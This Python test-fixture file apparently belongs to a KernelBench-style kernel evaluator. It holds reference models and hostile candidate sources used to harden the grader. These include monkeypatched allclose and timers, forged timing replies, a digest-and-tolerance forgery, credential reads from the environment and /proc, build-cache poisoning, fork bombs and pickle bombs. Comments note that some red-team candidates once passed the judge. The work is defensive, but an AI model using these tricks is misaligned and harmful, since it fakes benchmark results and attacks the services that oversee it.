"""Small KernelBench-format modules the evaluator tests send: one reference, correct and hostile candidates."""

from __future__ import annotations

REFERENCE = """
import torch

class Model(torch.nn.Module):
    def __init__(self, scale):
        super().__init__()
        self.scale = scale

    def forward(self, x):
        return torch.relu(x) * self.scale

def get_inputs():
    return [torch.randn(64, 64)]

def get_init_inputs():
    return [2.0]
"""

REFERENCE_WITH_WEIGHTS = """
import torch

class Model(torch.nn.Module):
    def __init__(self, features):
        super().__init__()
        self.linear = torch.nn.Linear(features, features)

    def forward(self, x):
        return torch.relu(self.linear(x))

def get_inputs():
    return [torch.randn(8, 32)]

def get_init_inputs():
    return [32]
"""

LINEAR_CORRECT = """
import torch

class ModelNew(torch.nn.Module):
    def __init__(self, features):
        super().__init__()
        self.linear = torch.nn.Linear(features, features)

    def forward(self, x):
        return torch.addmm(self.linear.bias, x, self.linear.weight.t()).clamp_min(0)
"""


def candidate(forward_body: str, prelude: str = "") -> str:
    """A ModelNew with the reference's constructor and the given forward body (indented 8 spaces)."""
    body = "\n".join("        " + line for line in forward_body.strip().splitlines())
    return f"""
import torch
{prelude}

class ModelNew(torch.nn.Module):
    def __init__(self, scale):
        super().__init__()
        self.scale = scale

    def forward(self, x):
{body}
"""


CORRECT = candidate("return x.clamp_min(0) * self.scale")
# KernelBench's level2/66 draws a dropout mask in every call.
DROPOUT_REFERENCE = REFERENCE.replace(
    "return torch.relu(x) * self.scale",
    "return torch.nn.functional.dropout(torch.relu(x), 0.5, training=True) * self.scale",
)


CPP_SOURCE = r"""
torch::Tensor scaled_relu(torch::Tensor x, double scale) {
    auto input = x.contiguous();
    auto out = torch::empty_like(input);
    const float* in = input.data_ptr<float>();
    float* o = out.data_ptr<float>();
    const float s = static_cast<float>(scale);
    const int64_t n = input.numel();
    for (int64_t i = 0; i < n; ++i) {
        o[i] = in[i] > 0.f ? in[i] * s : 0.f;
    }
    return out;
}
"""

CPP_CORRECT = f'''
import torch
from torch.utils.cpp_extension import load_inline

SOURCE = r"""{CPP_SOURCE}"""
ext = load_inline(name="scaled_relu", cpp_sources=SOURCE, functions=["scaled_relu"])

class ModelNew(torch.nn.Module):
    def __init__(self, scale):
        super().__init__()
        self.scale = scale

    def forward(self, x):
        return ext.scaled_relu(x, self.scale)
'''

CPP_COMPILE_ERROR = """
import torch
from torch.utils.cpp_extension import load_inline

ext = load_inline(name="broken", cpp_sources="torch::Tensor f(torch::Tensor x) { return x + ; }", functions=["f"])

class ModelNew(torch.nn.Module):
    def __init__(self, scale):
        super().__init__()

    def forward(self, x):
        return ext.f(x)
"""

SYNTAX_ERROR = CORRECT.replace("def forward(self, x):", "def forward(self, x)")
NO_MODEL_NEW = CORRECT.replace("class ModelNew", "class SomethingElse")
WRONG_OUTPUT = candidate("return x.clamp_min(0) * (self.scale + 1)")
WRONG_SHAPE = candidate("return (x.clamp_min(0) * self.scale)[:, :32]")
NAN_OUTPUT = candidate("y = x.clamp_min(0) * self.scale\ny[0, 0] = float('nan')\nreturn y")
SEGFAULT = candidate("ctypes.string_at(0)\nreturn x", prelude="import ctypes")
OS_EXIT = candidate("os._exit(7)", prelude="import os")
INFINITE_LOOP = candidate("while True:\n    pass")
# Terminal escapes (clear the screen, set the window title, a C1 control) in what it prints before it exits, and in
# an exception it raises: a message carries both to terminals and prompts.
ESCAPES_THEN_EXIT = candidate(
    'sys.stderr.write("\\x1b[2J\\x1b]0;owned\\x07\\x9b31m\\x00done\\n"); sys.stderr.flush()\nos._exit(7)',
    prelude="import os, sys",
)
# Also a lone surrogate (the worker's JSON carries it as "\\ud800", which no UTF-8 response can encode) and a
# right-to-left override.
ESCAPES_RAISED = candidate('raise RuntimeError("\\x1b[2Jscreen cleared\\x1b]0;owned\\x07 \\ud800 \\u202edesrever")')
# Swap the worker's stdio.log (in the directory above the job's home, which a `process`-isolation job may write)
# for a FIFO or a link to a file the service may read, then exit: the service reads that log for the verdict's
# message. A FIFO blocked the service's event loop for good. In strict isolation the swap fails; the exit stays.
_SWAP_LOG = """
import os, sys
print("written before the swap", flush=True)
log = os.path.join(os.path.dirname(os.getcwd()), "stdio.log")
try:
    os.unlink(log)
    {make}
except OSError:
    pass
os._exit(1)
"""
FIFO_FOR_ITS_LOG = candidate("return x", prelude=_SWAP_LOG.format(make="os.mkfifo(log)"))
LINK_FOR_ITS_LOG = candidate("return x", prelude=_SWAP_LOG.format(make='os.symlink("/etc/passwd", log)'))
HUGE_ALLOCATION = candidate("big = torch.empty(1 << 40)\nreturn big")
INPUT_MUTATION = candidate("x.clamp_(min=0)\nreturn x * self.scale")
PATCH_ALLCLOSE = candidate("return x", prelude="torch.allclose = lambda *args, **kwargs: True")
PATCH_TIMER = candidate(
    "return x.clamp_min(0) * self.scale",
    prelude="import time\n_real = time.perf_counter\ntime.perf_counter = lambda: _real() * 0.001",
)
IMPORT_REFERENCE = candidate("return Model(self.scale)(x)", prelude="from reference import Model")
SUBCLASS_REFERENCE = CORRECT.replace("class ModelNew(torch.nn.Module):", "class ModelNew(Model):")
# Reports what it could read instead of computing: the test checks the report holds no secret.
READ_SECRET = candidate(
    """
seen = {"env": os.environ.get("OPENAI_API_KEY")}
for pid in (os.getppid(), 1):
    try:
        seen[pid] = open(f"/proc/{pid}/environ").read()
    except OSError as exc:
        seen[pid] = type(exc).__name__
raise RuntimeError(f"SEEN {seen!r}")
""",
    prelude="import os",
)
FIND_REFERENCE_OUTPUTS = candidate(
    """
found = glob.glob("/tmp/**/expected_*.pt", recursive=True) + glob.glob("../**/expected_*.pt", recursive=True)
raise RuntimeError(f"FOUND {found!r}")
""",
    prelude="import glob",
)
NETWORK = candidate(
    """
try:
    socket.create_connection(("127.0.0.1", PORT), timeout=3).close()
    outcome = "connected"
except OSError as exc:
    outcome = type(exc).__name__
raise RuntimeError(f"NETWORK {outcome}")
""",
    prelude="import socket",
)
FORK_BOMB = candidate(
    """
children = 0
while True:
    try:
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
        children += 1
    except OSError:
        raise RuntimeError(f"fork refused after {children} children")
""",
    prelude="import os, time",
)


def write_outside(paths: list[str]) -> str:
    """A candidate that tries to create each of `paths` and reports the outcome."""
    return candidate(
        f"""
outcomes = {{}}
for path in {paths!r}:
    try:
        with open(path, "w") as handle:
            handle.write("pwned")
        outcomes[path] = "written"
    except OSError as exc:
        outcomes[path] = type(exc).__name__
raise RuntimeError(f"WRITES {{outcomes!r}}")
"""
    )


# Writes a forged timing reply (a huge speedup) on every pipe it can find, before the worker's own replies.
_FORGE = """
for _fd in os.listdir("/proc/self/fd"):
    try:
        if int(_fd) > 2 and os.readlink(f"/proc/self/fd/{_fd}").startswith("pipe:"):
            os.write(int(_fd), FORGED)
    except OSError:
        pass
"""
_FORGED_LINE = 'FORGED = b\'{"event": "block", "nonce": "0", "ms": [0.001]}\\n{"event": "saved", "nonce": "0"}\\n\''
FORGED_RESULT = candidate("return x.clamp_min(0) * self.scale", prelude=f"import os\n{_FORGED_LINE}\n{_FORGE}")
FORGED_RESULT_THEN_EXIT = candidate(
    "return x.clamp_min(0) * self.scale", prelude=f"import os\n{_FORGED_LINE}\n{_FORGE}\nos._exit(0)"
)

# A wrong answer that writes a line whose event name is a list on every pipe it holds: an exception in the judge
# (evaluator_error, no reward) was the candidate's to choose; it must stay `incorrect`.
UNHASHABLE_EVENT_WRONG = candidate(
    "return x * self.scale",
    prelude="import os\nFORGED = b'{\"event\": []}\\n'\n" + _FORGE,
)

# Wraps the worker's `emit` (an instance attribute, which the guard does not watch) in `wrapped_emit(emit)` once
# timing has begun (found on the stack: earlier, the guard reports the replaced `emit` with the correctness outputs).
_WRAP_EMIT = """
import gc, sys
_rewritten = []

def _rewrite():
    frame = sys._getframe()
    while frame is not None and frame.f_code.co_name != "serve_timing":
        frame = frame.f_back
    if frame is None:
        return
    for obj in gc.get_objects():
        if type(obj).__name__ == "WorkerContext":
            obj.emit = wrapped_emit(obj.emit)
            _rewritten.append(obj)
            return
"""
# Rewrites its own replies: the timed block's milliseconds become MS (unless None), and an `error` event of stage
# `run` goes out before `done`.
_REWRITE_REPLIES = (
    _WRAP_EMIT
    + """
def wrapped_emit(real):
    def emit(event, **fields):
        if event == "block" and MS is not None:
            fields["ms"] = [MS for _ in fields["ms"]]
        if event == "done":
            real("error", stage="run", message="RuntimeError: out of memory")
        return real(event, **fields)
    return emit
"""
)
# A number too large for a float made a finiteness check raise OverflowError (evaluator_error): it is
# result_tampering.
OVERFLOWING_MS = candidate(
    "if not _rewritten:\n    _rewrite()\nreturn x.clamp_min(0) * self.scale",
    prelude="MS = 10 ** 400\n" + _REWRITE_REPLIES,
)
# Correct while its outputs are compared, then one stale answer for every timed call (stale_output), and an `error`
# event before `done`: the forged error must not turn the caught hack into a milder runtime_error.
STALE_THEN_FORGED_ERROR = candidate(
    """if not _rewritten:
    _rewrite()
CALLS.append(1)
if len(CALLS) <= 2:
    return x.clamp_min(0) * self.scale
if not STALE:
    STALE.append(x.clamp_min(0) * self.scale)
return STALE[0]""",
    prelude="MS = None\nCALLS, STALE = [], []\n" + _REWRITE_REPLIES,
)

# A wrong answer whose `error` event carries a message nested ~975 deep: parsed at the reader's shallow stack, it
# raised RecursionError where the verdict printed it (evaluator_error, no reward, at the candidate's choice).
DEEP_ERROR_MESSAGE_WRONG = candidate(
    "return x * self.scale",
    prelude='import os\nFORGED = b\'{"event": "error", "stage": "run", "message": \' + b\'[\' * 975 + b\']\' * 975'
    " + b'}\\n'\n" + _FORGE,
)


# Writes hand-made torch archives: `_archive(pickle_bytes)`.
_HAND_MADE_ARCHIVE = """
import io, os, sys, zipfile

def _archive(pickle_bytes):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("archive/data.pkl", pickle_bytes)
        archive.writestr("archive/byteorder", "little")
        archive.writestr("archive/version", "3\\n")
    return buffer.getvalue()
"""
# {key: None}, the key a tuple nested 300,000 deep: unpickling hashes it by recursion in C, and whichever process
# parsed it died with SIGSEGV.
DEEP_KEY = 'b"\\x80\\x02})" + b"\\x85" * 300_000 + b"Ns."'
# {"outputs": _codecs.encode(bytearray(2**27), "hex"), "inputs_after": []}: torch's weights-only unpickler allows
# both calls; 71 bytes made 384 MiB in the service (three rounds of "hex" made 14 GB: the service was OOM-killed).
HEX_BOMB = (
    'b"\\x80\\x02}(X\\x07\\x00\\x00\\x00outputsc_codecs\\nencode\\ncbuiltins\\nbytearray\\nJ\\x00\\x00\\x00\\x08\\x85R'
    'X\\x03\\x00\\x00\\x00hex\\x86RX\\x0c\\x00\\x00\\x00inputs_after]u."'
)


def _rewriting_trial_0(pickle_expression: str) -> str:
    """Rewrites trial 0's saved output, during trial 1's call, as an archive of the given pickle: the service
    parses it in the correctness phase."""
    return candidate(
        """if os.path.exists("out/0.pt"):
    with open("out/0.pt", "wb") as handle:
        handle.write(_archive(PICKLE))
return x.clamp_min(0) * self.scale""",
        prelude=f"{_HAND_MADE_ARCHIVE}\nPICKLE = {pickle_expression}\n",
    )


# {t: None} with t = (t', t'), t' = (t'', t''), ... 28 levels through the memo: 150 bytes, and 2^28 tuples for the
# key's hash to walk, in C holding the GIL (the service stopped answering /health for minutes at 30 levels).
SHARED_KEY = 'b"\\x80\\x02})" + b"".join(b"q" + bytes([i]) + b"h" + bytes([i]) + b"\\x86" for i in range(28)) + b"Ns."'
DEEP_KEY_OUTPUT = _rewriting_trial_0(DEEP_KEY)
HEX_BOMB_OUTPUT = _rewriting_trial_0(HEX_BOMB)
SHARED_KEY_OUTPUT = _rewriting_trial_0(SHARED_KEY)


def rewriting_checks(pickle_expression: str, from_stage: str) -> str:
    """Overwrites every output saved for a check with an archive of the given pickle just before `saved` goes out
    (the reference's timer parses it), from the first call under `from_stage` on: `serve_timing` (timed calls'
    checks, saved by the candidate on a GPU only) or, on the `drawn` data path, `_run_trials` (the correctness
    trials' checks too; the guard then reports the wrapped `emit` with the first save)."""
    return candidate(
        "if not _rewritten:\n    _rewrite()\nreturn x.clamp_min(0) * self.scale",
        prelude=f"{_HAND_MADE_ARCHIVE}\nPICKLE = {pickle_expression}\n"
        + _WRAP_EMIT.replace('"serve_timing"', repr(from_stage))
        + """
import glob

def wrapped_emit(real):
    def emit(event, **fields):
        if event == "saved":
            for path in glob.glob("checks/*/0.pt"):
                with open(path, "wb") as handle:
                    handle.write(_archive(PICKLE))
        return real(event, **fields)
    return emit
""",
    )


# A problem heavy enough that 1/16 of its work is resolved by the judge's clock: ten rounds of sin, then a ReLU
# (half of the outputs exactly 0).
HEAVY_REFERENCE = """
import torch

def _f(x):
    for _ in range(10):
        x = torch.sin(x) + x * 0.5
    return x

class Model(torch.nn.Module):
    def __init__(self, scale):
        super().__init__()
        self.scale = scale

    def forward(self, x):
        return torch.relu(_f(x)) * self.scale

def get_inputs():
    return [torch.randn(512, 512)]

def get_init_inputs():
    return [2.0]
"""

# A red-team candidate against the sketch when it was a sum of an output's raw bits (it scored correct at 11.7x and
# 15.9x with that alone): the guard silenced, 1/16 of the work in each timed call and a zero tensor returned (what the
# block commits to), a replaced digest that computes only the sampled positions, and a replaced to_plain that computes
# the checked call in full, then rewrites its zeros within the tolerance so that its bits sum to the zeros' sum. The
# correctness run and the re-check are honest. On a CPU the judge reads the checked call's bytes from the stopped
# worker itself; on a GPU the sketch is now a hash of every byte (test_output_digest.py).
SKETCH_FORGED_WITHIN_TOLERANCE = """
import sys, weakref
import torch
import services.evaluator.device_handover as _handover
import services.evaluator.output_digest as _digest
import services.evaluator.runner as _runner
_runner._replaced = lambda guard: []

def _f(x):
    for _ in range(10):
        x = torch.sin(x) + x * 0.5
    return x

def _right(x, scale):
    return torch.relu(_f(x)) * scale

def _rewritten_to_sum(y, target):
    y = y.contiguous().clone()
    words = y.view(torch.int32).reshape(-1)
    zeros = (y.reshape(-1) == 0).nonzero().reshape(-1)
    words[zeros] = 0
    delta = target - int(words.sum(dtype=torch.int64))
    negatives = max(0, -(delta // (1 << 31)))
    delta += negatives << 31
    share, rest = divmod(delta, zeros.numel() - negatives)
    values = torch.full((zeros.numel(),), share, dtype=torch.int64, device=y.device)
    values[:negatives] = -(1 << 31)
    values[negatives : negatives + rest] += 1
    words[zeros] = values.to(torch.int32)
    return y

_SOURCE = {}

def _timing_frame():
    frame = sys._getframe(2)
    while frame is not None and frame.f_code.co_name != "_time_drawn":  # a timed block's calls (not a re-check's)
        frame = frame.f_back
    return frame

_digest_original = _digest.block_digest

def _sampled_only(outputs, seed):
    sources = [_SOURCE.get(id(out)) for out in outputs]
    if not outputs or any(source is None for source in sources):
        return _digest_original(outputs, seed)
    first = outputs[0]
    positions, w = _digest._draw(first, _digest._tensor_seed(seed, 0), torch.float32)
    values = _right(torch.stack([x[positions].reshape(-1) for x, _ in sources]), sources[0][1])
    sums = torch.stack([(values @ w).sum(), values.abs().sum(), values.pow(2).sum()]).double()
    return [{"shape": list(first.shape), "dtype": "float32", "sums": [float(v) for v in sums.tolist()]}]

_digest.block_digest = _sampled_only
_to_plain_original = _runner.to_plain

def _computed_when_saved(value, exact=False):
    source = _SOURCE.get(id(value))
    if source is not None:
        value = _rewritten_to_sum(_right(*source), int(value.contiguous().view(torch.int32).sum(dtype=torch.int64)))
    return _to_plain_original(value, exact)

_runner.to_plain = _computed_when_saved
_handover_original = _handover.handover_tensors

def _handed_over_when_saved(output):
    source = _SOURCE.get(id(output))
    if source is not None:
        output = _rewritten_to_sum(_right(*source), int(output.contiguous().view(torch.int32).sum(dtype=torch.int64)))
    return _handover_original(output)

_handover.handover_tensors = _handed_over_when_saved  # on a GPU the save hands the output over in device memory

class ModelNew(torch.nn.Module):
    def __init__(self, scale):
        super().__init__()
        self.scale = scale

    def forward(self, x):
        frame = _timing_frame()
        if frame is None or "values" not in frame.f_locals:
            return _right(x, self.scale)
        _f(x[:32])
        out = torch.zeros_like(x)
        _SOURCE[id(out)] = (frame.f_locals["values"][0], self.scale)
        weakref.finalize(out, _SOURCE.pop, id(out), None)
        return out
"""

# Rewrites every library of the build cache at import (in process isolation its job runs under the service's uid,
# which owns the cache) and says which it reached. A red-team candidate did this, and the next evaluation of a correct
# C++ candidate loaded what it wrote: compile_error with cache_hit.
CACHE_POISONER = candidate(
    """
raise RuntimeError(f"POISONED {_POISONED}")
""",
    prelude="""import glob, os, sys
_POISONED = []
for _path in glob.glob(os.path.join(sys.argv[sys.argv.index("--cache-dir") + 1], "*", "ext_*.so")):
    try:
        with open(_path, "r+b") as _handle:
            _handle.truncate(0)
            _handle.write(b"\\x7fELF written by another evaluation")
        _POISONED.append(os.path.basename(_path))
    except OSError as _error:
        _POISONED.append(type(_error).__name__)""",
)

# A red-team addition to that forgery: the worker's command loop moves to a thread of its own and the main thread
# exits (pthread_exit), so that the process lives on but opening its /proc/<pid>/mem fails with ESRCH, which the
# judge once took for a job that was gone: it then held the checked output to nothing (correct at 10.9x and 15.2x in
# strict isolation).
LEADER_EXITED_FORGERY = (
    """
import ctypes, os, threading
import services.evaluator.runner as _serving
_serve_timing = _serving.serve_timing

def _serve_in_a_thread(context, model, inputs, guard):
    def serve():
        try:
            _serve_timing(context, model, inputs, guard)
        finally:
            os._exit(0)
    threading.Thread(target=serve).start()
    ctypes.CDLL(None).pthread_exit(None)

_serving.serve_timing = _serve_in_a_thread
"""
    + SKETCH_FORGED_WITHIN_TOLERANCE
)


# Right, after writing 1.5 GB to its disk and keeping it: more than a memory limit of 1 GiB, in files.
FILES_PAST_THE_LIMIT = candidate(
    "return x.clamp_min(0) * self.scale",
    prelude="""
import os
descriptor = os.open("held.bin", os.O_WRONLY | os.O_CREAT, 0o600)
block = b"x" * (1 << 20)
for _ in range(1536):
    os.write(descriptor, block)
""",
)
